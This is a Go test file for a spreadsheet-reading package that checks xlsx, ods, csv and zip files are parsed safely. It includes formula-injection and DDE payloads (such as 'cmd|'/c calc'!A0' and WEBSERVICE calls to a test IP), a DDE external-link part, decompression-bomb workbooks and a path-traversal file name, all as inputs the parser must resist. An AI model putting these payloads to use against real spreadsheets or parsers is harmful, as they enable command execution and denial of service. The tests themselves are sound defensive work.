package sheet_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"runtime"
	"runtime/metrics"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/flate"

	"eterritoire/surveys/diag"
	"eterritoire/surveys/sheet"
)

// A formula is never evaluated, and never read: what a cell holds is the value
// that is stored beside it, whatever the formula would do.
func TestFormulasOfHarm(t *testing.T) {
	for _, formula := range []string{
		`cmd|'/c calc'!A0`, `DDE("cmd";"/c calc";"A0")`, `HYPERLINK("http://192.0.2.1/"&amp;A1,"ici")`, `WEBSERVICE("http://192.0.2.1/")`, `'file:///etc/[hosts]a'!A1`,
	} {
		file := pack(t, cellAt(`<c r="B2"><f>`+formula+`</f><v>2</v></c><c r="C2" t="str"><f>`+formula+`</f><v>oui</v></c><c r="D2"><f>`+formula+`</f></c>`))
		want := "2: A=number:1 B=number:formula:2 C=formula:oui D=formula:uncached:"
		if rows, p := read(t, "a.xlsx", file, sheet.Limits{}); p != nil || len(rows) != 2 || rows[1] != want {
			t.Errorf("%s: %q %v", formula, rows, p)
		}
		quoted := strings.NewReplacer(`"`, "&quot;", "'", "&apos;").Replace(formula)
		ods := odsFile(t, map[string]string{"content.xml": odsDocument(`<table:table-row><table:table-cell table:formula="of:=` + quoted + `" office:value-type="float" office:value="2"><text:p>2</text:p></table:table-cell></table:table-row>`)})
		if rows, p := read(t, "a.ods", ods, sheet.Limits{}); p != nil || rows[0] != "1: A=number:formula:2" {
			t.Errorf("%s: %q %v", formula, rows, p)
		}
	}
	// In a text file it is a text, as it was written; a comment is no cell.
	if rows, p := read(t, "a.csv", []byte("a,b\n\"=cmd|'/c calc'!A0\",2\n"), sheet.Limits{}); p != nil || rows[1] != "2: A==cmd|'/c calc'!A0 B=2" {
		t.Errorf("%q %v", rows, p)
	}
	if rows, p := read(t, "a.xlsx", pack(t, cellAt(`<!-- <c r="B2"><f>cmd|'/c calc'!A0</f></c> -->`)), sheet.Limits{}); p != nil || rows[1] != "2: A=number:1" {
		t.Errorf("%q %v", rows, p)
	}
}

// What other programs leave out, or write in their own way, is read.
func TestUnusualAndWhole(t *testing.T) {
	wide := worksheet(`<row r="1">` + strings.Repeat(`<c><v>1</v></c>`, 1<<14) + `</row>`)
	rels := workbook("")["xl/_rels/workbook.xml.rels"]
	bare := without(with(cellAt(`<c r="B2" s="0"><v>46159</v></c>`), "xl/_rels/workbook.xml.rels", strings.Replace(rels,
		`<Relationship Id="rId2" Type="`+relSpace+`/styles" Target="styles.xml"/>`, "", 1)), "xl/styles.xml")
	photo := with(cellAt(``), "xl/media/image1.jpeg", strings.Repeat("\xff\xd8 photo ", 1<<20))
	for _, c := range []struct {
		name  string
		parts map[string]string
		rows  int
		last  string
	}{
		{"no styles.xml", bare, 2, "2: A=number:1 B=number:46159"},
		{"16,384 columns", workbook(wide), 1, "XFD=number:1"},
		{"macros", with(cellAt(``), "xl/vbaProject.bin", "\x00\x01"), 2, "2: A=number:1"},
		{"a photograph, which is not unzipped", photo, 2, "2: A=number:1"},
		{"a link to another workbook, and its part", with(cellAt(``), "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), 2, "2: A=number:1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			rows, p := read(t, "a.xlsx", pack(t, c.parts), sheet.Limits{})
			if p != nil || len(rows) != c.rows || !strings.HasSuffix(rows[len(rows)-1], c.last) {
				t.Errorf("%d rows, %v", len(rows), p)
			}
		})
	}
}

// swollen is a workbook with one part that repeats a text for so many bytes.
func swollen(t *testing.T, part, before, repeated, after string, size int) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestSpeed) })
	for name, content := range workbook(worksheet("")) {
		if name != part {
			add(t, z, name, content)
		}
	}
	w, err := z.Create(part)
	if err == nil {
		_, err = io.WriteString(w, before)
	}
	block := []byte(strings.Repeat(repeated, max(1, (1<<20)/len(repeated))))
	for n := 0; n < size && err == nil; n += len(block) {
		_, err = w.Write(block)
	}
	if err == nil {
		_, err = io.WriteString(w, after)
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// memoryLimit is what one file may cost, whatever it holds: the figure of
// docs/decisions/0027.
const memoryLimit = 1 << 30

// Each part that is held in memory is refused before it costs more than a file
// may, even where the ratio of its size zipped gives nothing away.
func TestMemoryOfAFile(t *testing.T) {
	unsuspected := sheet.Limits{Ratio: 1 << 20}
	for _, c := range []struct {
		name string
		file []byte
		code string
	}{
		{"texts", swollen(t, sharedStrings, `<sst>`, `<si><t>`+strings.Repeat("é", 500)+`</t></si>`, `</sst>`, 300<<20), "file-too-large"},
		{"texts that are empty", swollen(t, sharedStrings, `<sst>`, `<si/>`, `</sst>`, 90<<20), "file-too-large"},
		{"styles", swollen(t, "xl/styles.xml", `<styleSheet><cellXfs>`, `<xf/>`, `</cellXfs></styleSheet>`, 40<<20), "file-too-large"},
		{"relationships", swollen(t, "xl/_rels/workbook.xml.rels", `<Relationships>`, `<Relationship/>`, `</Relationships>`, 40<<20), "file-too-large"},
		{"sheets", swollen(t, "xl/workbook.xml", `<workbook><sheets>`, `<sheet/>`, `</sheets></workbook>`, 1<<20), "file-too-large"},
		{"parts", manyParts(t, 300_000), "file-too-large"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var p *diag.Problem
			peak := peakOf(func() { _, p = read(t, "a.xlsx", c.file, unsuspected) })
			if p == nil || p.Code != c.code {
				t.Errorf("%+v, want %s", p, c.code)
			}
			if peak > memoryLimit {
				t.Errorf("%d MB", peak>>20)
			}
			t.Logf("%d kB zipped, %d MB at most", len(c.file)>>10, peak>>20)
		})
	}
}

// peakOf is how much memory a function needs at most, looked at as it runs,
// beside what was there before.
func peakOf(run func()) uint64 {
	runtime.GC()
	before, stop, done := memory(), make(chan struct{}), make(chan uint64)
	go func() {
		peak := uint64(0)
		for {
			peak = max(peak, memory())
			select {
			case <-stop:
				done <- peak
				return
			case <-time.After(2 * time.Millisecond):
			}
		}
	}()
	run()
	close(stop)
	peak := <-done
	return peak - min(before, peak)
}

func memory() uint64 {
	m := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}, {Name: "/memory/classes/heap/unused:bytes"}}
	metrics.Read(m)
	return m[0].Value.Uint64() + m[1].Value.Uint64()
}

// manyParts is a zip of so many empty parts.
func manyParts(t *testing.T, n int) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range n {
		if _, err := z.CreateRaw(&zip.FileHeader{Name: fmt.Sprintf("xl/media/%08d.png", i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A list of sheets that all name the same part, and relationships to look
// through for each: looked up, not searched.
func TestManySheetsAndRelations(t *testing.T) {
	var sheets, relations strings.Builder
	for i := range 900 {
		fmt.Fprintf(&sheets, `<sheet name="s%d" r:id="last"/>`, i)
	}
	for i := range 200_000 {
		fmt.Fprintf(&relations, `<Relationship Id="r%d" Type="x" Target="y"/>`, i)
	}
	parts := workbook(worksheet(`<row><c><v>1</v></c></row>`))
	parts["xl/workbook.xml"] = `<workbook xmlns="` + mainSpace + `" xmlns:r="` + relSpace + `"><sheets>` + sheets.String() + `</sheets></workbook>`
	parts["xl/_rels/workbook.xml.rels"] = `<Relationships xmlns="` + packageSpace + `">` + relations.String() + `<Relationship Id="last" Type="` + relSpace + `/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`
	if rows, p := read(t, "a.xlsx", pack(t, parts), sheet.Limits{}); p != nil || len(rows) != 900 {
		t.Error(len(rows), p)
	}
}

// FuzzODS reads the content of an OpenDocument file.
func FuzzODS(f *testing.F) {
	for _, rows := range []string{
		``, `<table:table-row><table:table-cell office:value-type="float" office:value="2.5"><text:p>2,5</text:p></table:table-cell></table:table-row>`,
		`<table:table-row table:number-rows-repeated="3" table:visibility="collapse"><table:table-cell table:number-columns-repeated="4"><text:p>a<text:s text:c="9"/><text:tab/>b</text:p><text:p/></table:table-cell></table:table-row>`,
		`<table:table-row-group><table:table-row><table:covered-table-cell/><table:table-cell table:formula="of:=1" office:value-type="date" office:date-value="2026-05-17T08:55:12"/></table:table-row></table:table-row-group>`,
		`<table:table-row><table:table-cell office:value-type="time" office:time-value="PT36H"/><table:table-cell office:value-type="boolean" office:boolean-value="true"/><table:table-cell calcext:value-type="error"/></table:table-row>`,
	} {
		f.Add(odsDocument(rows))
	}
	f.Fuzz(func(t *testing.T, content string) {
		fuzzed(t, "a.ods", odsFile(t, map[string]string{"content.xml": content}))
	})
}

// FuzzZip reads an archive of two tables.
func FuzzZip(f *testing.F) {
	f.Add("soumissions.csv", []byte("a,b\n1,2\n"), []byte("a;b\n\xe9;\"x\ny\"\n"))
	f.Add("../a.csv", []byte("\xff\xfea\x00"), []byte(""))
	f.Fuzz(func(t *testing.T, name string, first, second []byte) {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for n, content := range map[string][]byte{name: first, "b.csv": second} {
			w, err := z.Create(n)
			if err == nil {
				_, err = w.Write(content)
			}
			if err != nil {
				t.Skip(err)
			}
		}
		if err := z.Close(); err != nil {
			t.Skip(err)
		}
		fuzzed(t, "a.zip", b.Bytes())
	})
}
